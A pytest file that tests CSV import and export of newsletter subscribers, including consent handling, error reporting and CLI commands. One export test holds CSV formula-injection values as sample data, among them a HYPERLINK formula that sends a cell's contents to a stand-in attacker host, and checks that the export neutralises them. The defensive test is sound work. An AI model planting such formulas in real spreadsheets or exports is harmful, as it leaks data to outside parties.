"""Importing readers from CSV and exporting them, from the domain module and the CLI."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import event, func, select

from tests.helpers import SECTIONS, add_topics, wait_for
from webapp import subscriptions
from webapp.extensions import db
from webapp.models import (
    ConsentMethod,
    EventKind,
    Subscriber,
    SubscriberEvent,
    SubscriberStatus,
    SuppressionReason,
    Topic,
    utcnow,
)
from webapp.subscriber_csv import CsvImportError, export_subscribers, import_subscribers

BY_STAFF = "csv import by staff@example.org"


@pytest.fixture
def topics(db_session):
    return add_topics([*SECTIONS, "Industry News"])


def csv_bytes(*lines: str, header: str = "email,name,sections", newline: str = "\n") -> bytes:
    return newline.join([header, *lines]).encode("utf-8") + newline.encode()


def by_email(address: str) -> Subscriber:
    return db.session.scalar(select(Subscriber).where(Subscriber.email == address))


def topic_names(subscriber: Subscriber) -> list[str]:
    return [t.name for t in subscriber.topics]


def test_a_consented_import_makes_active_readers_with_their_sections(topics):
    data = csv_bytes(
        "li.lei@example.com,李雷,质量要闻;国际动态",
        "HAN.MEIMEI@example.com,韩梅梅,质量热点|权威观点",
        "wang@example.com,,质量要闻、industry-news",  # a slug, any case
        "zhao@example.com,赵,",  # no sections: every active section
    )
    report = import_subscribers(data, consented=True, source=BY_STAFF)
    db.session.commit()
    assert (report.created, report.updated, report.errors) == (4, 0, [])
    assert report.confirmation_ids == []

    li = by_email("li.lei@example.com")
    assert li.status == SubscriberStatus.ACTIVE
    assert li.name == "李雷"
    assert topic_names(li) == ["质量要闻", "国际动态"]
    assert li.consent_method == ConsentMethod.IMPORTED_CONSENTED
    assert li.consent_source == BY_STAFF
    assert li.consented_at is not None
    assert topic_names(by_email("han.meimei@example.com")) == ["质量热点", "权威观点"]
    assert topic_names(by_email("wang@example.com")) == ["质量要闻", "Industry News"]
    assert topic_names(by_email("zhao@example.com")) == [*SECTIONS, "Industry News"]
    [detail] = db.session.scalars(
        select(SubscriberEvent.detail).where(
            SubscriberEvent.subscriber_id == li.id, SubscriberEvent.kind == EventKind.IMPORTED
        )
    ).all()
    assert json.loads(detail)["by"] == BY_STAFF


def test_an_import_without_consent_leaves_readers_pending_to_confirm(topics):
    report = import_subscribers(
        csv_bytes("a@example.com,A,", "b@example.com,B,"), consented=False, source="cli import"
    )
    db.session.commit()
    pending = db.session.scalars(select(Subscriber).order_by(Subscriber.id)).all()
    assert sorted(report.confirmation_ids) == [s.id for s in pending]
    for subscriber in pending:
        assert subscriber.status == SubscriberStatus.PENDING
        assert subscriber.confirmation_sent_at is not None
        assert subscriber.consent_method is None  # their consent will be the confirmation click
    # A second import the same day does not mail them again.
    again = import_subscribers(
        csv_bytes("a@example.com,A,", "b@example.com,B,"), consented=False, source="cli import"
    )
    assert (again.created, again.unchanged, again.confirmation_ids) == (0, 2, [])


def test_bad_rows_are_reported_by_line_with_the_reason_and_the_rest_imported(topics):
    data = (
        "\ufeffemail,name,sections\r\n"  # a BOM and Windows line endings are fine
        "good@example.com,好,质量要闻\r\n"
        "no-at-sign.example.com,坏,\r\n"
        'multi@example.com,"两行\r\n的名字",\r\n'  # one record over two lines
        "unknown@example.com,某,不存在的栏目\r\n"
        "short@example.com\r\n"
        "\r\n"
        "long@example.com,A,B,C\r\n"
        ",无地址,\r\n"
    ).encode()
    report = import_subscribers(data, consented=True, source=BY_STAFF)
    assert report.created == 2
    assert [line for line, _ in report.errors] == [3, 6, 7, 9, 10]
    reasons = dict(report.errors)
    # email-validator explains in English only: the report says it in the catalog's words.
    assert (reasons[3].code, reasons[3].params) == (
        "csv-email-no-at",
        {"email": "no-at-sign.example.com"},
    )
    assert reasons[3].detail == ""
    # Its only section is unknown: read as "every section" it would sign them up to all.
    assert (reasons[6].code, reasons[6].params["names"]) == ("csv-topics-none", "不存在的栏目")
    assert (reasons[7].code, reasons[7].params) == ("csv-column-missing", {"column": "name"})
    assert (reasons[9].code, reasons[9].params) == ("csv-columns-extra", {"count": 4, "header": 3})
    assert reasons[10].code == "csv-email-missing"
    name = by_email("multi@example.com").name
    assert name.startswith("两行") and name.endswith("的名字")
    assert "\r" not in name and "\n" not in name  # a name is one line in a header


def test_a_file_that_is_not_utf8_is_refused_naming_the_line(topics):
    data = "email,name\nok@example.com,ok\nli@example.com,李雷\n".encode("gb18030")
    with pytest.raises(CsvImportError) as caught:
        import_subscribers(data, consented=True, source=BY_STAFF)
    assert (caught.value.code, caught.value.params) == ("csv-not-utf8", {"line": 3})
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "csv-empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "csv-binary"),
        (b"address,name\nli@example.com,li\n", "csv-header"),
        (b"\xef\xbb\xbf", "csv-header"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused(topics, data, code):
    with pytest.raises(CsvImportError) as caught:
        import_subscribers(data, consented=True, source=BY_STAFF)
    assert caught.value.code == code


def test_an_address_twice_in_the_file_is_merged_and_the_later_line_reported(topics):
    data = csv_bytes(
        "twice@example.com,,质量要闻",
        "other@example.com,Other,",
        "Twice@Example.com,后来的名字,国际动态",
    )
    report = import_subscribers(data, consented=True, source=BY_STAFF)
    assert report.created == 2
    assert report.duplicates == [(4, 2)]
    twice = by_email("twice@example.com")
    assert twice.name == "后来的名字"
    assert topic_names(twice) == ["质量要闻", "国际动态"]


def test_an_import_brings_back_neither_an_erased_nor_an_unsubscribed_address(topics):
    for address, status in [
        ("left@example.com", SubscriberStatus.UNSUBSCRIBED),
        ("bounced@example.com", SubscriberStatus.BOUNCED),
        ("erased@example.com", SubscriberStatus.ACTIVE),
    ]:
        db.session.add(Subscriber(email=address, status=status, topics=topics[:1]))
    db.session.flush()
    subscriptions.erase(by_email("erased@example.com").id, source="staff")
    subscriptions.suppress("blocked@example.com", SuppressionReason.STAFF, source="staff")
    db.session.commit()
    data = csv_bytes(
        "left@example.com,L,",
        "erased@example.com,E,",
        "bounced@example.com,B,",
        "blocked@example.com,X,",
        "new@example.com,N,",
    )
    for consented in (True, False):
        report = import_subscribers(data, consented=consented, source=BY_STAFF)
        assert report.skipped_unsubscribed == [2, 4]
        assert report.skipped_suppressed == [3, 5]
    db.session.commit()
    assert by_email("left@example.com").status == SubscriberStatus.UNSUBSCRIBED
    assert by_email("bounced@example.com").status == SubscriberStatus.BOUNCED
    assert by_email("erased@example.com") is None
    assert by_email("blocked@example.com") is None
    assert by_email("new@example.com").status == SubscriberStatus.ACTIVE


def test_readers_already_here_keep_their_sections(topics):
    news, hot, *_ = topics
    db.session.add_all(
        [
            Subscriber(email="active@example.com", status=SubscriberStatus.ACTIVE, topics=[hot]),
            Subscriber(email="pending@example.com", name="原名", status=SubscriberStatus.PENDING),
        ]
    )
    db.session.commit()
    data = csv_bytes("active@example.com,新名,质量要闻", "pending@example.com,新名,")
    report = import_subscribers(data, consented=True, source=BY_STAFF)
    db.session.commit()
    assert (report.created, report.updated) == (0, 2)
    active, pending = by_email("active@example.com"), by_email("pending@example.com")
    assert topic_names(active) == ["质量热点"]  # their own choice, not the file's
    assert active.name == "新名"  # they had none
    assert pending.name == "原名"  # theirs wins
    assert pending.status == SubscriberStatus.ACTIVE  # staff vouch for their consent
    assert pending.consent_method == ConsentMethod.IMPORTED_CONSENTED


def test_pending_readers_already_here_are_mailed_again_only_after_a_day(topics):
    db.session.add_all(
        [
            Subscriber(
                email="recent@example.com",
                status=SubscriberStatus.PENDING,
                confirmation_sent_at=utcnow() - timedelta(hours=2),
            ),
            Subscriber(
                email="stale@example.com",
                status=SubscriberStatus.PENDING,
                confirmation_sent_at=utcnow() - timedelta(days=3),
            ),
        ]
    )
    db.session.commit()
    report = import_subscribers(
        csv_bytes("recent@example.com,,", "stale@example.com,,"), consented=False, source="x"
    )
    assert report.confirmation_ids == [by_email("stale@example.com").id]


def test_thousands_of_rows_import_in_a_few_statements(app, topics):
    rows = [f"reader{n}@example.com,读者{n},{SECTIONS[n % 4]}" for n in range(5000)]
    db.session.add(Subscriber(email="reader7@example.com", status=SubscriberStatus.ACTIVE))
    db.session.commit()
    statements = []

    def count(*_args):
        statements.append(1)

    event.listen(db.engine, "before_cursor_execute", count)
    try:
        report = import_subscribers(csv_bytes(*rows), consented=True, source=BY_STAFF)
    finally:
        event.remove(db.engine, "before_cursor_execute", count)
    db.session.commit()
    assert (report.created, report.updated) == (4999, 1)  # reader7 gets the file's name
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 5000
    # Chunks of addresses, never one query per row (insertmanyvalues may split batches).
    assert len(statements) < 60, len(statements)


# --- export --------------------------------------------------------------------------------


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_export_lists_readers_with_their_sections(topics):
    import_subscribers(
        csv_bytes("li@example.com,李雷,质量要闻;国际动态", "han@example.com,韩梅梅,质量热点"),
        consented=True,
        source=BY_STAFF,
    )
    rows = parsed(export_subscribers())
    assert rows[0] == ["email", "name", "status", "sections", "created_at"]
    assert [r[:4] for r in rows[1:]] == [
        ["li@example.com", "李雷", "active", "质量要闻;国际动态"],
        ["han@example.com", "韩梅梅", "active", "质量热点"],
    ]
    hot = db.session.scalar(select(Topic).where(Topic.name == "质量热点"))
    assert [r[0] for r in parsed(export_subscribers(topic_id=hot.id))[1:]] == ["han@example.com"]
    assert parsed(export_subscribers(status=SubscriberStatus.PENDING)) == [rows[0]]


def test_the_export_cannot_smuggle_a_formula_into_a_spreadsheet(topics):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-3", "@SUM(A1)", "\tx"]
    db.session.add_all(
        Subscriber(email=f"r{n}@example.com", name=name, status=SubscriberStatus.ACTIVE)
        for n, name in enumerate(names)
    )
    db.session.add(
        Subscriber(email="-dash@example.com", name="普通", status=SubscriberStatus.ACTIVE)
    )
    db.session.commit()
    text = export_subscribers()
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"' in text  # quoted, inert
    rows = parsed(text)[1:]
    assert [r[1] for r in rows[: len(names)]] == ["'" + name for name in names]
    assert rows[-1][0] == "'-dash@example.com"
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))

    # The apostrophe is taken off again on import, so an export imports as it was.
    for subscriber in db.session.scalars(select(Subscriber)):
        db.session.delete(subscriber)
    db.session.commit()
    exported = "\n".join(",".join(r[:2]) for r in [["email", "name"]] + rows[-1:])
    report = import_subscribers(exported.encode(), consented=True, source=BY_STAFF)
    assert report.errors == []
    assert by_email("-dash@example.com") is not None


# --- the command line ----------------------------------------------------------------------


def test_the_cli_imports_a_file_and_lists_errors_by_line(app, db_session, topics, tmp_path):
    path = tmp_path / "readers.csv"
    path.write_bytes(csv_bytes("li@example.com,李雷,质量要闻", "bad,坏,", "li@example.com,,"))
    result = app.test_cli_runner().invoke(args=["subscribers", "import", str(path), "--consented"])
    assert result.exit_code == 0, result.output
    assert "Created: 1" in result.output
    assert "line 3: “bad” is not a valid email address: it has no @." in result.output
    assert "line 4: merged into line 2" in result.output
    db.session.expire_all()
    assert by_email("li@example.com").status == SubscriberStatus.ACTIVE


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "No such file"),
        ("email,name\nli@example.com,李雷\n".encode("gbk"), "Line 2 is not UTF-8"),
    ],
)
def test_the_cli_exits_1_when_the_file_cannot_be_read(app, topics, tmp_path, content, message):
    path = tmp_path / "readers.csv"
    if content is not None:
        path.write_bytes(content)
    result = app.test_cli_runner().invoke(args=["subscribers", "import", str(path), "--consented"])
    assert result.exit_code == 1
    assert message in result.output


def test_the_cli_asks_how_consent_was_given(app, topics, tmp_path):
    path = tmp_path / "readers.csv"
    path.write_bytes(csv_bytes("li@example.com,李雷,"))
    result = app.test_cli_runner().invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 2
    assert "--consented or --send-confirmations" in result.output


def test_the_cli_sends_confirmations_after_importing(
    app, db_session, topics, tmp_path, celery_worker, inbox
):
    path = tmp_path / "readers.csv"
    path.write_bytes(csv_bytes("li@example.com,李雷,质量要闻", "han@example.com,韩梅梅,"))
    result = app.test_cli_runner().invoke(
        args=["subscribers", "import", str(path), "--send-confirmations"]
    )
    assert result.exit_code == 0, result.output
    assert "Confirmation emails queued: 2" in result.output
    wait_for(lambda: len(inbox.messages) == 2, what="two confirmation emails")
    assert {m["To"].addresses[0].addr_spec for m in inbox.messages} == {
        "li@example.com",
        "han@example.com",
    }


def test_the_cli_exports_to_a_file_excel_can_read(app, db_session, topics, tmp_path):
    import_subscribers(csv_bytes("li@example.com,李雷,质量要闻"), consented=True, source="x")
    db.session.commit()
    path = tmp_path / "out.csv"
    result = app.test_cli_runner().invoke(args=["subscribers", "export", "-o", str(path)])
    assert result.exit_code == 0, result.output
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    assert parsed(data.decode("utf-8-sig"))[1][:3] == ["li@example.com", "李雷", "active"]
    result = app.test_cli_runner().invoke(args=["subscribers", "export"])
    assert '"li@example.com","李雷","active"' in result.output


def test_the_cli_dry_run_prints_the_report_and_changes_nothing(app, db_session, topics, tmp_path):
    path = tmp_path / "readers.csv"
    path.write_bytes(csv_bytes("li@example.com,李雷,质量要闻;停刊", "bad,坏,"))
    args = ["subscribers", "import", str(path), "--consented", "--dry-run"]
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    assert "Dry run: nothing was changed." in result.output
    assert "Created: 1" in result.output
    assert "line 2: unknown section: 停刊 (the row's other sections are imported)" in result.output
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0
